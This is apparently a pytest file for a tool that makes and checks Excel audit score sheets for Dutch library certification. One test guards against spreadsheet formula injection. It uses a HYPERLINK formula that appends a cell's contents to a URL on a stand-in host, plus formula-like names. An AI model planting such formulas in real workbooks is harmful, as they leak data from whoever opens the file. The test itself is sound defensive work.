"""Score sheets: new sheet → filled in with openpyxl → read → advice; bad cells are named."""

from __future__ import annotations

import dataclasses
import datetime as dt
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from cbct_docs.cli import cli
from cbct_docs.documents.scoresheet_file import new_scoresheet
from cbct_docs.domain.advice import CERTIFIED, CONDITIONAL, NOT_CERTIFIED, evaluate
from cbct_docs.domain.frameworks import load_framework
from cbct_docs.domain.register import Organisation, find_organisation, read_register
from cbct_docs.domain.scoresheet import read_scoresheet
from cbct_docs.errors import CbctError, DataError, OutputError, ProblemList
from cbct_docs.paths import samples_dir

REGISTER = samples_dir() / "register.xlsx"
DAYS = [dt.date(2025, 5, 12), dt.date(2025, 5, 13)]


def organisation(cert_nr: str) -> Organisation:
    return find_organisation(read_register(REGISTER), cert_nr)


def fill(path: Path, scores: dict[str, str] | None = None, default: str = "Volledig",
         audit: dict[str, object] | None = None, notes: dict[int, str] | None = None) -> Path:
    """Fill in a sheet as an auditor would: every score, some notes, the Audit fields."""
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Scores"]
    for row in range(2, sheet.max_row + 1):
        qid = sheet.cell(row, 2).value
        sheet.cell(row, 5).value = (scores or {}).get(qid, default)
    for row in range(2, workbook["Bevindingen"].max_row + 1):
        key = workbook["Bevindingen"].cell(row, 1).value
        if notes and key in notes:
            workbook["Bevindingen"].cell(row, 3).value = notes[key]
    meta = workbook["Audit"]
    for row in range(2, meta.max_row + 1):
        field = meta.cell(row, 1).value
        if audit and field in audit:
            meta.cell(row, 2).value = audit[field]
    workbook.save(path)
    return path


@pytest.fixture
def kib_sheet(tmp_path: Path) -> Path:
    return new_scoresheet(organisation("CBCT-0107"), "KiB", tmp_path / "score.xlsx", DAYS,
                          ["A. de Vries", "B. Bakker"])


def test_new_sheet_is_prefilled(kib_sheet: Path) -> None:
    workbook = openpyxl.load_workbook(kib_sheet)
    assert workbook.sheetnames == ["Scores", "Bevindingen", "Indicatoren", "Audit"]
    scores = workbook["Scores"]
    header = [c.value for c in scores[1]]
    assert header == ["norm", "id", "vraag", "scope", "score", "toelichting"]
    kib = load_framework("KiB")
    ids = [scores.cell(r, 2).value for r in range(2, scores.max_row + 1)]
    assert ids == [q.id for q in kib.applicable_questions(("leesbevordering", "ido", "taalhuis"))]
    assert scores.cell(2, 3).value == kib.norm(1).questions[0].text
    (validation,) = scores.data_validations.dataValidation
    assert validation.formula1 == '"Niet,Beperkt,Grotendeels,Volledig"'
    assert str(validation.sqref) == f"E2:E{scores.max_row}"
    notes = workbook["Bevindingen"]
    labels = [notes.cell(r, 2).value for r in range(2, notes.max_row + 1)]
    assert labels[0] == "Norm 1: Missie, visie, strategie & beleid"
    assert labels[7:] == ["Module Leesbevordering (educatieve dienstverlening)",
                          "Module Informatiepunt Digitale Overheid", "Module Taalhuis"]
    meta = {(r[0].value, r[1].value) for r in workbook["Audit"].iter_rows(min_row=2)}
    assert {("cert_nr", "CBCT-0107"), ("organisatie", "Bibliotheek Gooi & Vecht"),
            ("kader", "KiB"), ("auditor", "A. de Vries"), ("auditor", "B. Bakker"),
            ("auditdatum", dt.datetime(2025, 5, 12)), ("categorie", "IV")} <= meta


def test_taalhuis_questions_only_for_taalhuis(tmp_path: Path) -> None:
    with_taalhuis = new_scoresheet(organisation("CBCT-0104"), "ZoO", tmp_path / "a.xlsx", DAYS,
                                   ["A"])
    # Every ZoO organisation of the sample register runs a taalhuis: one without the module.
    no_module = dataclasses.replace(organisation("CBCT-0104"), modules=())
    without = new_scoresheet(no_module, "ZoO", tmp_path / "b.xlsx", DAYS, ["A"])

    def scopes(path: Path) -> list[str]:
        sheet = openpyxl.load_workbook(path)["Scores"]
        return [sheet.cell(r, 4).value for r in range(2, sheet.max_row + 1)]

    assert scopes(with_taalhuis).count("taalhuis") == 9  # norms 1-6 + 3 module questions
    assert "taalhuis" not in scopes(without)


def test_refuses_to_overwrite_and_picks_name_in_folder(kib_sheet: Path, tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="exists already"):
        new_scoresheet(organisation("CBCT-0107"), "KiB", kib_sheet, DAYS, ["A"])
    made = new_scoresheet(organisation("CBCT-0104"), "ZoO", tmp_path, DAYS, ["A"])
    assert made.name == "CBCT-0104-Taalhuis Noord-Oost-scores.xlsx"


def test_round_trip_certified(kib_sheet: Path) -> None:
    sheet = read_scoresheet(fill(kib_sheet, {"1.1": "Grotendeels", "ido.2": "Beperkt"},
                                 notes={3: "Het scholingsplan is actueel."}))
    assert sheet.cert_nr == "CBCT-0107" and sheet.org_name == "Bibliotheek Gooi & Vecht"
    assert sheet.audit_dates == DAYS and sheet.auditors == ["A. de Vries", "B. Bakker"]
    assert sheet.scores["1.1"] == "Grotendeels" and sheet.scores["7.3"] == "Volledig"
    assert sheet.notes[3].findings == "Het scholingsplan is actueel."
    result = evaluate(sheet, load_framework("KiB"))
    assert result.advice == CERTIFIED and not result.overridden
    assert [r.norm.number for r in result.norm_results] == list(range(1, 8))  # type: ignore[union-attr]
    assert all(r.sufficient for r in result.norm_results + result.module_results)


def test_round_trip_conditional(kib_sheet: Path) -> None:
    scores = {"2.3": "Niet", "5.1": "Beperkt", "5.2": "Beperkt", "6.1": "Beperkt"}
    result = evaluate(read_scoresheet(fill(kib_sheet, scores)))
    assert result.advice == CONDITIONAL
    assert [n.number for n in result.insufficient_norms] == [2, 5]
    reasons = {r.norm.label: r.reason for r in result.norm_results if not r.sufficient}
    assert reasons == {"Norm 2: Middelen": "1 vraag scoort Niet",
                       "Norm 5: Producten & diensten":
                           "2 van de 3 vragen onvoldoende; ten hoogste 1 toegestaan"}


def test_round_trip_not_certified_counts_modules(kib_sheet: Path) -> None:
    scores = {"1.1": "Niet", "4.2": "Niet", "taalhuis.1": "Beperkt", "taalhuis.3": "Beperkt"}
    result = evaluate(read_scoresheet(fill(kib_sheet, scores)))
    assert [m.code for m in result.insufficient_modules] == ["taalhuis"]
    assert result.advice == NOT_CERTIFIED  # two norms and one module: three


def test_round_trip_override_keeps_reason(kib_sheet: Path) -> None:
    reason = "De tekortkoming bij norm 2 is na de audit aantoonbaar hersteld."
    filled = fill(kib_sheet, {"2.1": "Niet"},
                  audit={"advies_override": "Gecertificeerd", "override_reden": reason})
    sheet = read_scoresheet(filled)
    result = evaluate(sheet)
    assert (result.advice, result.computed_advice) == (CERTIFIED, CONDITIONAL)
    assert result.overridden and result.override_reason == reason
    runner = CliRunner()
    shown = runner.invoke(cli, ["scoresheet", "check", str(filled)])
    assert shown.exit_code == 0, shown.output
    assert "Norm 2: Middelen: onvoldoende (1 vraag scoort Niet)" in shown.output
    assert f"Advice: Gecertificeerd (override; the scores give {CONDITIONAL}). " \
           f"Reason: {reason}" in shown.output


def test_override_without_reason_is_refused(kib_sheet: Path) -> None:
    filled = fill(kib_sheet, audit={"advies_override": "Niet gecertificeerd"})
    with pytest.raises(ProblemList) as caught:
        read_scoresheet(filled)
    (message,) = caught.value.messages()
    assert message.startswith(f"{filled}:Audit:row ")
    assert message.endswith(":waarde: an advice override needs a reason "
                            "(explain why the advice differs from the scores)")


def test_bad_sheet_lists_every_cell(kib_sheet: Path) -> None:
    fill(kib_sheet, {"2.2": "Grotendeel", "3.1": "volledig"}, audit={"auditdatum": "31-4-2025"})
    workbook = openpyxl.load_workbook(kib_sheet)
    scores = workbook["Scores"]
    scores.cell(3, 2).value = "1.9"  # an id the framework does not have
    row_63 = next(r for r in range(2, scores.max_row + 1) if scores.cell(r, 2).value == "6.3")
    scores.delete_rows(row_63)  # question 6.3 gone
    workbook["Indicatoren"].cell(2, 5).value = "Misschien"  # named as typed
    workbook["Bevindingen"].cell(3, 1).value = 9  # KiB has no norm 9
    workbook.save(kib_sheet)
    with pytest.raises(ProblemList) as caught:
        read_scoresheet(kib_sheet)
    assert caught.value.messages() == [
        f"{kib_sheet}:Audit:row 7:waarde: '31-4-2025' is not a valid date: "
        "april 2025 has no day 31",
        f"{kib_sheet}:Audit:row 8:waarde: '31-4-2025' is not a valid date: "
        "april 2025 has no day 31",
        f"{kib_sheet}:Scores:row 3:id: unknown question id '1.9' (do not change the id column)",
        f"{kib_sheet}:Scores:row 6:score: 'Grotendeel' is not one of Niet, Beperkt, "
        "Grotendeels, Volledig",
        f"{kib_sheet}:Bevindingen:row 3:norm: '9' is not a norm or module of this audit",
        f"{kib_sheet}:Indicatoren:row 2:antwoord: 'Misschien' is not ja or nee",
        f"{kib_sheet}:Scores: no rows for questions 1.2, 6.3 "
        "(make a new score sheet, or copy the rows back)",
    ]


def test_evaluate_refuses_incomplete_sheet(kib_sheet: Path) -> None:
    sheet = read_scoresheet(fill(kib_sheet))
    del sheet.scores["4.1"]
    with pytest.raises(ProblemList, match="score.xlsx: no score for 4.1"):
        evaluate(sheet)


def test_cli_new_then_check(tmp_path: Path) -> None:
    runner = CliRunner()
    out = tmp_path / "CBCT-0104.xlsx"
    made = runner.invoke(cli, ["scoresheet", "new", "--org", "CBCT-0104", "--register",
                               str(samples_dir() / "register.csv"), "--audit-date", "12 mei 2025",
                               "--auditor", "C. Çelik", "--out", str(out)])
    assert made.exit_code == 0, made.output
    assert "24 questions for CBCT-0104 Taalhuis Noord/Oost (ZoO)" in made.output
    empty = runner.invoke(cli, ["scoresheet", "check", str(out)])
    assert empty.exit_code == 1
    assert f"Error: {out}:Scores: 24 questions have no score (rows 2-25)" in empty.output
    fill(out, {"4.3": "Niet"})
    checked = runner.invoke(cli, ["scoresheet", "check", str(out)])
    assert checked.exit_code == 0, checked.output
    assert "CBCT-0104 Taalhuis Noord/Oost (ZoO); audit 12-5-2025; auditors C. Çelik" in \
        checked.output
    assert "Norm 4: Mensen: onvoldoende (1 vraag scoort Niet)" in checked.output
    assert "Module Taalhuis: voldoende" in checked.output
    assert checked.output.rstrip().endswith("Advice: Voorwaardelijk gecertificeerd")
    bad_date = runner.invoke(cli, ["scoresheet", "new", "--org", "CBCT-0104", "--register",
                                   str(REGISTER), "--audit-date", "30-2-2025", "--out", str(out)])
    assert bad_date.exit_code == 2 and "februari 2025 has no day 30" in bad_date.output
    unknown = runner.invoke(cli, ["scoresheet", "new", "--org", "CBCT-9", "--register",
                                  str(REGISTER), "--out", str(tmp_path)])
    assert unknown.exit_code == 2
    assert "no organisation with certificate number 'CBCT-9'" in unknown.output


def test_cli_register_check(tmp_path: Path) -> None:
    runner = CliRunner()
    ok = runner.invoke(cli, ["register", "check", str(REGISTER), "--quarter", "2025-Q1"])
    assert ok.exit_code == 0, ok.output
    assert "OK: 14 organisations" in ok.output
    assert "2025-Q1 (eerste kwartaal van 2025): 2 organisation(s)" in ok.output
    assert "CBCT-0103  Kunst&Co Uden  (KiB, certified until 31-3-2025)" in ok.output
    bad = tmp_path / "r.csv"
    bad.write_text("cert_nr;name;branch;framework;email;certified_until;category\n"
                   "X-1;Naam;VOB;KiB;fout;1-1-2025;I\n", encoding="utf-8")
    failed = runner.invoke(cli, ["register", "check", str(bad)])
    assert failed.exit_code == 1
    assert f"Error: {bad}:row 2:email: 'fout' is not an e-mail address" in failed.output


def test_a_sheet_must_match_the_register(kib_sheet: Path) -> None:
    import dataclasses

    from cbct_docs.domain.scoresheet import check_sheet_matches

    sheet = read_scoresheet(fill(kib_sheet))
    org = organisation("CBCT-0107")
    check_sheet_matches(sheet, org)  # as made: fine
    with pytest.raises(DataError, match="Audit: the sheet scores KiB, but the register has "
                                        "CBCT-0107 under ZoO"):
        check_sheet_matches(sheet, dataclasses.replace(org, framework="ZoO"))
    with pytest.raises(DataError, match="the sheet has modules .*, the register none"):
        check_sheet_matches(sheet, dataclasses.replace(org, modules=()))


def test_formula_like_names_and_auditors_stay_text_and_read_back(tmp_path: Path) -> None:
    """Issue 15: a register name '=HYPERLINK(…)' and --auditor '=1+1' were written as live
    formulas, and `scoresheet check` then refused the tool's own sheet."""
    import dataclasses

    name = '=HYPERLINK("http://x/?d="&B1,"Klik hier")'
    org = dataclasses.replace(organisation("CBCT-0107"), name=name)
    path = new_scoresheet(org, "KiB", tmp_path / "score.xlsx", DAYS,
                          ["=1+1", "+31 6 1234", "@A1", "-B. Bakker"])
    workbook = openpyxl.load_workbook(path)
    audit = {row[0].value: row[1] for row in workbook["Audit"].iter_rows(min_row=2)}
    cell = audit["organisatie"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    assert all(c.data_type != "f" for s in workbook for r in s.iter_rows() for c in r)
    sheet = read_scoresheet(fill(path))
    assert sheet.org_name == name
    assert sheet.auditors == ["=1+1", "+31 6 1234", "@A1", "-B. Bakker"]
    result = CliRunner().invoke(cli, ["scoresheet", "check", str(path)])
    assert result.exit_code == 0, result.output


def test_scoresheet_reads_its_workbook_once(kib_sheet: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 16: four sheets, one opening of the workbook (was four full loads)."""
    from cbct_docs.records import xlsx

    opened: list[Path] = []
    original = xlsx.Workbook.__init__

    def counting(self: xlsx.Workbook, path: Path, *, data: bytes | None = None) -> None:
        opened.append(path)
        original(self, path, data=data)

    monkeypatch.setattr(xlsx.Workbook, "__init__", counting)
    read_scoresheet(fill(kib_sheet))
    assert opened == [kib_sheet]


def test_a_superscript_digit_as_norm_is_a_located_problem(tmp_path: Path) -> None:
    """'²' passes str.isdigit() but int() refuses it: it must be reported as any other
    value that is no norm, never end the command with a traceback."""
    from tests.registers import edited

    path = edited(tmp_path, "CBCT-0101", "Bevindingen", "A2", "²")
    with pytest.raises(CbctError) as caught:
        read_scoresheet(path)
    assert f"{path}:Bevindingen:row 2:norm: '²' is not a norm or module of this audit" \
        in caught.value.messages()
